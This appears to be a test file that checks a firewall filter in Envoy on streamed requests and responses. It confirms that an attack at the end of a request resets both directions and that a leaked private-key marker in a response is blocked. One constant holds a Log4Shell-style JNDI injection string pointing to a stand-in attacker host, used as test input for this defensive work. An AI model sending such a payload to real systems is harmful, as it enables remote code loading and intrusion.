// Responses that begin before their request has ended, through a real Envoy: both go on side by side, and an attack that comes when the
// response has begun cuts both.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { openExchange, type Protocol } from "./open-exchange.ts";
import { ProtectedApi, withTrailers } from "./protected-api.ts";

const ATTACK = '"${jndi:ldap://evil.example/a}"]';
const LEAK = '"-----BEGIN RSA PRIVATE KEY-----"]';
const ROUNDS = 10;
const JSON_TYPE = { "content-type": "application/json" };

describe("responses that begin early, Envoy 1.40.0", () => {
  let api: ProtectedApi;
  before(async () => {
    const configuration = JSON.stringify({
      ...{ mode: "block", hold_headers: true, block_rules: ["wg-resp-004"] },
      ...{ request_body: "STREAMED", response_body: "STREAMED" },
    });
    api = await ProtectedApi.start({ version: "1.40.0", configuration, edit: withTrailers });
  });
  after(async () => {
    await api?.assertHealthy();
    await api?.stop();
  });

  /** Ten rounds in which each side sends a record when it has the other's; then `last` from the client, `lastReply` from the service. */
  async function converse(protocol: Protocol, last: string, lastReply: string) {
    const id = randomUUID();
    const path = `/${id}`;
    api.upstream.serve(id, async (upstream) => {
      upstream.head(200, JSON_TYPE);
      await upstream.send(Buffer.from("["));
      for (let i = 1; i <= ROUNDS; i++) {
        await upstream.until(`record ${i}`, ({ content }) => content.length >= 1 + i * record(i).length);
        await upstream.send(Buffer.from(record(i)));
      }
      await upstream.until("the request's end", (request) => request.complete);
      if (upstream.request.closed && !upstream.request.complete) return;
      await upstream.send(Buffer.from(lastReply));
      upstream.end();
    });
    const exchange = await openExchange(protocol, api.port, {
      ...{ method: "POST", path, headers: { "x-test-id": id, ...JSON_TYPE } },
    });
    const { response } = exchange;
    await exchange.send(Buffer.from("["));
    for (let i = 1; i <= ROUNDS; i++) {
      await exchange.send(Buffer.from(record(i)));
      await response.changes.until(`record ${i} at the client`, () =>
        response.content.length >= 1 + i * record(i).length ? true : undefined,
      );
    }
    await exchange.send(Buffer.from(last));
    exchange.end();
    await response.changes.until("the end", () => response.ending);
    exchange.abort();
    return { response, ...(await api.traffic.of(path)), request: api.upstream.of(id)[0]! };
  }

  for (const protocol of ["HTTP/1.1", "HTTP/2"] as const) {
    test(`${protocol}, harmless → both end whole`, async () => {
      const { response, event, request } = await converse(protocol, "0]", "0]");
      assert.deepEqual([response.status, response.ending, request.complete], [200, "complete", true]);
      assert.equal(event, undefined);
    });

    test(`${protocol}, attack at the request's end → both are cut, neither seems whole, the event says reset`, async () => {
      const { response, event, request } = await converse(protocol, ATTACK, "0]");
      assert.notEqual(response.ending, "complete");
      assert.equal(request.complete, false);
      assert.equal(request.body.includes(ATTACK), false);
      assert.deepEqual([event?.action, event?.phase, event?.["status"]], ["reset", "request_body", 200]);
    });

    test(`${protocol}, leak at the response's end → cut, it does not arrive`, async () => {
      const { response, event } = await converse(protocol, "0]", LEAK);
      assert.notEqual(response.ending, "complete");
      assert.equal(response.body.includes(LEAK), false);
      assert.deepEqual([event?.action, event?.phase, event?.["status"]], ["reset", "response_body", 200]);
    });
  }
});

/** All are as long. */
function record(i: number): string {
  return `{"round":${String(i).padStart(3, " ")},"note":"O'Brien's lamp"},`;
}
